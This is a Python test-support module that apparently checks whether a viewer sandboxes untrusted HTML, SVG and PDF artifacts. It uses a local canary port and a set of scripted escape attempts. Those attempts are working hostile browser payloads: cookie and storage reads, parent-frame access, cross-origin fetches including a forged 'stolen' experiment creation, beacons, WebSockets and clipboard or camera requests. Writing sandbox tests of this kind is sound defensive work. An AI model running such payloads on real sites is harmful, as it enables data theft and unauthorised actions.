"""Documents that try to get out of their frame, and a port that notices if one does."""

from __future__ import annotations

import contextlib
import socket
import threading
from collections.abc import Iterator

MARK = "ran"
"""What a script that runs tells the page around it."""


class Canary:
    """A port, TCP and UDP, that should hear nothing."""

    def __init__(self) -> None:
        self.heard: list[str] = []
        """First lines; "connected" for a connection on which nothing was sent, "udp" for a
        packet."""
        self._stream = socket.create_server(("127.0.0.1", 0))
        self.port = self._stream.getsockname()[1]
        self._packets = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self._packets.bind(("127.0.0.1", self.port))
        for work in (self._accept, self._listen):
            threading.Thread(target=work, daemon=True).start()

    def _accept(self) -> None:
        with contextlib.suppress(OSError):
            while True:
                connection, _ = self._stream.accept()
                with connection:
                    connection.settimeout(2)
                    data = b""
                    with contextlib.suppress(OSError):
                        data = connection.recv(2000)
                        connection.sendall(b"HTTP/1.1 204 No Content\r\nConnection: close\r\n\r\n")
                    line = data.partition(b"\r\n")[0].decode("latin-1")
                    self.heard.append(line or "connected")

    def _listen(self) -> None:
        with contextlib.suppress(OSError):
            while True:
                self._packets.recvfrom(2000)
                self.heard.append("udp")

    def close(self) -> None:
        for one in (self._stream, self._packets):
            with contextlib.suppress(OSError):
                one.shutdown(socket.SHUT_RDWR)
            one.close()


@contextlib.contextmanager
def canary() -> Iterator[Canary]:
    one = Canary()
    try:
        yield one
    finally:
        one.close()


def markup(canary: str) -> dict[str, str]:
    """Documents that need no script to do harm, by name; `canary` is a URL."""
    whole = (
        f'<img src="{canary}/img"><img srcset="{canary}/srcset 1x">'
        f'<link rel="stylesheet" href="{canary}/css"><link rel="icon" href="{canary}/icon">'
        f'<link rel="preload" as="script" href="{canary}/preload">'
        f'<link rel="prefetch" href="{canary}/prefetch">'
        f'<link rel="modulepreload" href="{canary}/modulepreload">'
        f'<link rel="manifest" href="{canary}/manifest">'
        f"<style>@import url({canary}/import); body{{background:url({canary}/background)}}"
        f"@font-face{{font-family:x;src:url({canary}/font)}} p{{font-family:x}}</style><p>x</p>"
        f'<div style="background:url({canary}/style)">x</div>'
        f'<iframe src="{canary}/iframe"></iframe><object data="{canary}/object"></object>'
        f'<embed src="{canary}/embed"><video src="{canary}/video" poster="{canary}/poster" '
        f'autoplay></video><audio src="{canary}/audio" autoplay></audio>'
        f'<input type="image" src="{canary}/input"><table background="{canary}/table"></table>'
        f'<svg><image href="{canary}/image"/><use href="{canary}/use#a"/></svg>'
        f'<iframe srcdoc="<img src={canary}/srcdoc>"></iframe>'
    )
    return {
        "loads.html": whole,
        "base.html": f'<base href="{canary}/"><img src="base">',
        "refresh.html": f'<meta http-equiv="refresh" content="0;url={canary}/refresh">',
        "refresh2.html": f'<meta http-equiv="refresh" content="0;url=data:text/html,<script>'
        f"new Image().src='{canary}/data'</script>\">",
        "prefetch.html": '<link rel="dns-prefetch" href="//canary.example">'
        '<meta http-equiv="x-dns-prefetch-control" content="on">',
        "submit.html": f'<form action="{canary}/form" method="post"><input name="a" value="b">'
        '<button id="go">go</button></form>',
        "link.html": f'<a id="go" target="_top" href="{canary}/top">top</a>',
        "blank.html": f'<a id="go" target="_blank" href="{canary}/blank">new</a>',
        "self.html": f'<a id="go" href="{canary}/self">here</a>',
        "ping.html": f'<a id="go" href="#x" ping="{canary}/ping">ping</a>',
        "download.html": f'<a id="go" download href="{canary}/download">save</a>',
        "loads.svg": '<svg xmlns="http://www.w3.org/2000/svg" '
        'xmlns:xlink="http://www.w3.org/1999/xlink" width="99" height="99">'
        f"<style>@import url({canary}/svg-import);</style>"
        f'<image xlink:href="{canary}/svg-image" width="9" height="9"/>'
        f'<use xlink:href="{canary}/svg-use#a"/><rect fill="url({canary}/svg-fill#a)" '
        f'width="9" height="9"/><foreignObject width="99" height="99">'
        f'<body xmlns="http://www.w3.org/1999/xhtml"><img src="{canary}/svg-img"/>'
        f'<iframe src="{canary}/svg-frame"></iframe></body></foreignObject></svg>',
        "sheet.svg": f'<?xml-stylesheet type="text/xsl" href="{canary}/xslt"?>'
        f'<!DOCTYPE svg [<!ENTITY a SYSTEM "{canary}/entity">]>'
        '<svg xmlns="http://www.w3.org/2000/svg"><text y="20">&a;</text></svg>',
    }


def scripted() -> dict[str, str]:
    """Documents whose scripts only say that they ran, in every way to have one run."""
    say = f"parent.postMessage('{MARK}','*')"
    svg = 'xmlns="http://www.w3.org/2000/svg"'
    return {
        "script.html": f"<script>{say}</script>",
        "module.html": f'<script type="module">{say}</script>',
        "event.html": f'<img src=x onerror="{say}"><body onload="{say}">',
        "details.html": f'<details open ontoggle="{say}">x</details>',
        "frame.html": f'<iframe srcdoc="<script>parent.{say}</script>"></iframe>',
        "data.html": f'<script src="data:text/javascript,{say}"></script>',
        "url.html": f'<iframe src="javascript:parent.{say}"></iframe>',
        "script.svg": f"<svg {svg}><script>{say}</script></svg>",
        "event.svg": f'<svg {svg} onload="{say}"/>',
        "animated.svg": f'<svg {svg}><set attributeName="x" to="1" onbegin="{say}"/></svg>',
        "foreign.svg": f'<svg {svg}><foreignObject width="9" height="9">'
        f'<img xmlns="http://www.w3.org/1999/xhtml" src="x" onerror="{say}"/>'
        "</foreignObject></svg>",
    }


#: What a script tries, by name. Each is an expression, or a promise of one, of what it got; it
#: fails where it should. `c` is the canary's URL, `o` the server's.
ATTEMPTS = {
    "cookie": "document.cookie + 'cookie'",
    "localStorage": "localStorage.getItem('secret') + 'got'",
    "sessionStorage": "sessionStorage.length + 'got'",
    "indexedDB": "new Promise((y,n)=>{const r=indexedDB.open('a');r.onsuccess=y;r.onerror=n})",
    "caches": "caches.keys()",
    "parent": "parent.document.title",
    "top": "top.document.body.innerHTML",
    "parent-location": "parent.location.href",
    "fetch-api": "fetch(o + '/ajax-api/2.0/mlflow/experiments/get?experiment_id=0')",
    "fetch-no-cors": "fetch(o + '/health', {mode: 'no-cors'})",
    "fetch-write": "fetch(o + '/ajax-api/2.0/mlflow/experiments/create', {method: 'POST', "
    "headers: {'Content-Type': 'application/json'}, body: '{\"name\": \"stolen\"}'})",
    "fetch-canary": "fetch(c + '/fetch', {mode: 'no-cors'})",
    "xhr": "new Promise((y,n)=>{const x=new XMLHttpRequest();x.open('GET',c+'/xhr');"
    "x.onload=y;x.onerror=n;x.send()})",
    "beacon": "new Promise((y,n)=>navigator.sendBeacon(c+'/beacon','x')?setTimeout(n,300):n())",
    "socket": "new Promise((y,n)=>{const s=new WebSocket(c.replace('http','ws')+'/socket');"
    "s.onopen=y;s.onerror=n})",
    "events": "new Promise((y,n)=>{const s=new EventSource(c+'/events');s.onopen=y;s.onerror=n})",
    "image": "new Promise((y,n)=>{const i=new Image();i.onload=y;i.onerror=n;i.src=c+'/image'})",
    "script": "new Promise((y,n)=>{const s=document.createElement('script');s.onload=y;"
    "s.onerror=n;s.src=c+'/script';document.body.append(s)})",
    "import": "import(c + '/module.js')",
    "css": "new Promise((y,n)=>{const l=document.createElement('link');l.rel='stylesheet';"
    "l.onload=y;l.onerror=n;l.href=c+'/css';document.body.append(l)})",
    "worker": "new Promise((y,n)=>{const w=new Worker(URL.createObjectURL(new Blob(["
    "'fetch(\"'+c+'/worker\",{mode:\"no-cors\"}).then(()=>postMessage(1),()=>close())'])));"
    "w.onmessage=y;w.onerror=n;setTimeout(n,500)})",
    "service-worker": "navigator.serviceWorker.register(o + '/sw.js')",
    "open": "new Promise((y,n)=>open(c+'/open')?y():n())",
    "open-blank": "new Promise((y,n)=>{const w=open('');w?y():n()})",
    "top-navigation": "new Promise((y,n)=>{try{top.location=c+'/top'}catch(e){n()};"
    "setTimeout(n,300)})",
    "parent-navigation": "new Promise((y,n)=>{try{parent.location.replace(c+'/parent')}"
    "catch(e){n()};setTimeout(n,300)})",
    "form": "new Promise((y,n)=>{const f=document.createElement('form');f.method='post';"
    "f.action=c+'/form';document.body.append(f);f.submit();setTimeout(n,300)})",
    "form-blank": "new Promise((y,n)=>{const f=document.createElement('form');f.target='_blank';"
    "f.action=c+'/form2';document.body.append(f);f.submit();setTimeout(n,300)})",
    "download": "new Promise((y,n)=>{const a=document.createElement('a');a.download='x';"
    "a.href='data:,x';document.body.append(a);a.click();setTimeout(n,300)})",
    "alert": "new Promise((y,n)=>{alert('x');n()})",
    "clipboard": "navigator.clipboard.readText()",
    "location": "navigator.geolocation ? new Promise((y,n)=>"
    "navigator.geolocation.getCurrentPosition(y,n)) : Promise.reject()",
    "camera": "navigator.mediaDevices.getUserMedia({video: true})",
    "frame": "new Promise((y,n)=>{const f=document.createElement('iframe');f.src=c+'/frame';"
    "document.body.append(f);setTimeout(n,300)})",
    "own-frame": "new Promise((y,n)=>{const f=document.createElement('iframe');f.src=o+'/';"
    "document.body.append(f);setTimeout(()=>{try{f.contentDocument.title?y():n()}catch(e){n()}},"
    "300)})",
    "webrtc": "new Promise((y,n)=>{const p=new RTCPeerConnection({iceServers:"
    "[{urls:'stun:'+c.slice(7)}]});p.createDataChannel('x');"
    "p.createOffer().then(d=>p.setLocalDescription(d)).catch(n);setTimeout(n,1000)})",
}


def program(canary: str, origin: str, attempts: dict[str, str] = ATTEMPTS) -> str:
    """A document whose script tries everything, and tells what it got."""
    tries = ",".join(
        f"[{name!r}, () => Promise.resolve({code})]" for name, code in attempts.items()
    )
    return f"""<!doctype html><title>x</title><body><script>
const c = {canary!r}, o = {origin!r}, got = {{}}, tries = [{tries}];
const one = ([name, work]) => new Promise((done) => {{
  setTimeout(() => done(), 3000);
  try {{ work().then(() => {{ got[name] = 'got it'; done() }}, () => done()) }} catch {{ done() }}
}});
(async () => {{
  await Promise.all(tries.map(one));
  parent.postMessage({{ran: {MARK!r}, origin: self.origin, got}}, '*');
}})()
</script>"""


def pdf(actions: bytes = b"") -> bytes:
    """A PDF file of one page.

    Args:
        actions: Of the catalog, such as what it does when it is opened.
    """
    text = b"BT /F1 24 Tf 20 100 Td (Hello) Tj ET"
    objects = [
        b"<</Type/Catalog/Pages 2 0 R" + actions + b">>",
        b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
        b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 200 200]/Contents 4 0 R"
        b"/Resources<</Font<</F1 5 0 R>>>>>>",
        b"<</Length %d>>stream\n%s\nendstream" % (len(text), text),
        b"<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>",
    ]
    out, places = b"%PDF-1.7\n", []
    for number, content in enumerate(objects, 1):
        places.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, content)
    table = b"".join(b"%010d 00000 n \n" % place for place in places)
    size, start = len(objects) + 1, len(out)
    return (
        out
        + b"xref\n0 %d\n0000000000 65535 f \n%strailer<</Size %d/Root 1 0 R>>\n"
        % (
            size,
            table,
            size,
        )
        + b"startxref\n%d\n%%%%EOF\n" % start
    )
